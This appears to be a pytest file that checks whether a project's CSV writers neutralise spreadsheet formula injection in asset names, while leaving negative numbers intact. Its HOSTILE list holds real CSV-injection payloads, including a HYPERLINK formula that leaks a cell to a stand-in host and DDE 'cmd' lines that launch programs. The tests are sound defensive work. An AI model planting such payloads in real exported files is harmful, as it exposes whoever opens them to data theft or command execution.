"""Faults of issue 13 item 12: formula injection through the CSV files the engine writes.

An asset named ``=HYPERLINK(...)`` must reach the CSV as text a spreadsheet will not run
(OWASP "CSV Injection": a leading single quote), while negative numbers stay numbers.
"""

import csv

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from shapely import Point

from resilience.geodata.inventory_io import read_inventory, write_inventory
from resilience.storage.csv_safe import neutralise_cell, neutralise_frame, restore_cell
from resilience.storage.risk_io import write_risk_table

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=already quoted once",
]
#: The names the file-level tests write. pandas' CSV writer ends lines with "\n" and so leaves
#: a cell holding a bare carriage return unquoted, which a CSV reader takes as a line break: a
#: separate fault (the row splits), not formula injection; neutralise_cell is tested with CR.
IN_FILES = [name for name in HOSTILE if "\r" not in name]


def _inventory(names: list[str]) -> gpd.GeoDataFrame:
    count = len(names)
    return gpd.GeoDataFrame(
        {
            "asset_id": [f"a{i}" for i in range(count)],
            "name": names,
            "asset_type": ["substation"] * count,
            "owner_agency": ["=agency()"] * count,
            "criticality": [3] * count,
            "ground_elevation_m": [-1.5] * count,
            "protection_level_m": [np.nan] * count,
            "design_life_years": [50] * count,
            "replacement_value": [1e9] * count,
            "depends_on": [[] for _ in range(count)],
        },
        geometry=[Point(121.40 + 0.01 * i, 31.2) for i in range(count)],
        crs=4326,
    )


def _cells(path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_quoted_and_restored(text):
    quoted = neutralise_cell(text)
    assert quoted == "'" + text
    assert restore_cell(quoted) == text


@pytest.mark.parametrize("value", [-3.5, -2, "-3.5", "+1e3", "plain", "a=b", "'quoted", None])
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutralise_cell(value) == value
    assert restore_cell(value) == value


def test_negative_number_columns_stay_numeric():
    frame = pd.DataFrame({"level_m": [-1.25, 2.0], "name": ["-x", "y"]})
    out = neutralise_frame(frame)
    assert out["level_m"].tolist() == [-1.25, 2.0] and out["level_m"].dtype == np.float64
    assert out["name"].tolist() == ["'-x", "y"]
    assert frame["name"].tolist() == ["-x", "y"]  # the caller's table is not changed


def test_a_frame_is_neutralised_as_cell_by_cell():
    """Distinct values are checked once; the result is the per-cell one, gaps kept."""
    column = ["=SUM(A1)", "plain", None, np.nan, "-3.5", "=SUM(A1)", "@x", "plain", 7, "-x"]
    frame = pd.DataFrame({"text": column * 3, "mixed": [b"raw", *column[1:]] * 3})
    out = neutralise_frame(frame)
    for name in ("text", "mixed"):
        expected = [neutralise_cell(v) for v in frame[name]]
        got = out[name].tolist()
        assert [type(v) for v in got] == [type(v) for v in expected]
        assert [v for v in got if v == v] == [v for v in expected if v == v]  # NaN != NaN
    assert out["text"].tolist()[:2] == ["'=SUM(A1)", "plain"]


def test_risk_table_csv_floats_read_as_six_significant_digits(tmp_path):
    assets = _inventory(["a", "b", "c"])
    values = [1234567.891, np.nan, -0.000123456789]
    table = pd.DataFrame({"asset_id": assets["asset_id"], "value": values, "n": [1, 2, 3]})
    path = write_risk_table(table, assets, tmp_path).csv
    rows = _cells(path)
    assert [row["value"] for row in rows] == ["1.23457e+06", "", "-0.000123457"]
    assert [row["n"] for row in rows] == ["1", "2", "3"]


@pytest.mark.fault("13.12", "=HYPERLINK asset name in risk_table.csv is quoted as text")
def test_risk_table_csv_quotes_formula_names(tmp_path):
    names = IN_FILES
    assets = _inventory(names)
    table = pd.DataFrame(
        {
            "asset_id": assets["asset_id"],
            "name": assets["name"],
            "hazard": "surge",
            "metric_value": -0.75,
            "risk_class": "-high",
        }
    )
    files = write_risk_table(table, assets, tmp_path)
    gpkg, path = files.gpkg, files.csv
    rows = _cells(path)
    assert [row["name"] for row in rows] == ["'" + name for name in names]
    assert {row["risk_class"] for row in rows} == {"'-high"}
    assert {row["metric_value"] for row in rows} == {"-0.75"}  # numbers stay numbers
    # The GeoPackage is not a spreadsheet: it keeps the names as they are.
    assert gpd.read_file(gpkg)["name"].tolist() == names


@pytest.mark.fault("13.12", "formula in an inventory written as CSV is quoted, read back as is")
def test_inventory_csv_quotes_formulas_and_reads_them_back(tmp_path):
    names = IN_FILES
    original = _inventory(names)
    path = write_inventory(original, tmp_path / "assets.csv")
    rows = _cells(path)
    assert [row["name"] for row in rows] == ["'" + name for name in names]
    assert {row["owner_agency"] for row in rows} == {"'=agency()"}
    assert {row["ground_elevation_m"] for row in rows} == {"-1.5"}
    back = read_inventory(path)
    assert back["name"].tolist() == names
    assert back["owner_agency"].tolist() == ["=agency()"] * len(names)
    assert back["ground_elevation_m"].tolist() == [-1.5] * len(names)


def test_risk_table_csv_written_in_blocks_equals_one_block(tmp_path, monkeypatch):
    from resilience.storage import risk_io

    names = ["=a", "b", "-c", "d", "e"]
    assets = _inventory(names)
    table = pd.DataFrame(
        {"asset_id": assets["asset_id"], "name": names, "p": [0.5, np.nan, 1e-9, 2.0, -3.25]}
    )
    whole = write_risk_table(table, assets, tmp_path / "whole").csv
    monkeypatch.setattr(risk_io, "CSV_BLOCK_ROWS", 2)
    blocks = write_risk_table(table, assets, tmp_path / "blocks").csv
    assert blocks.read_text() == whole.read_text()
    assert whole.read_text().count("asset_id") == 1  # one header
